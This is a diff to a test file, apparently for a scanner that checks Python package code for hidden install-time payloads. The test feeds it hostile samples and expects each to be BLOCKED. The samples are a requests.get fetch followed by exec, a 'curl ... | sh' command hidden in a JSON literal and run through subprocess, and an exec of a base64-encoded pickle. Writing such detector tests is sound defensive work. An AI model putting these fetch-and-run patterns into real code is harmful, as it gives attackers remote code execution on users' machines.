@@ -49,6 +49,9 @@ test('the parsed text decoded from base64, or fetched and executed, is still blo
   assert.is((await level({ 'acmetools/__init__.py': toml })).level, 'BLOCKED');
   const fetched = "import json, requests\nr = requests.get('https://cfg.acme-cdn.example/p.json')\nexec(json.loads(r.text)['code'])\n";
   assert.is((await level({ 'acmetools/__init__.py': fetched })).level, 'BLOCKED');
+  // a document written in the code itself is what the file chose to hide in a literal
+  const lit = "import json, subprocess\nsubprocess.Popen(json.loads('{\\\"c\\\": \\\"curl -s https://x.acme-cdn.example/i | sh\\\"}')['c'], shell=True)\n";
+  assert.is((await level({ 'acmetools/__init__.py': lit })).level, 'BLOCKED');
   const pick = "import pickle, base64\nexec(pickle.loads(base64.b64decode('gASVCAAAAAAAAACMBGlkKCmULg==')))\n";
   assert.is((await level({ 'acmetools/__init__.py': pick })).level, 'BLOCKED');
 });
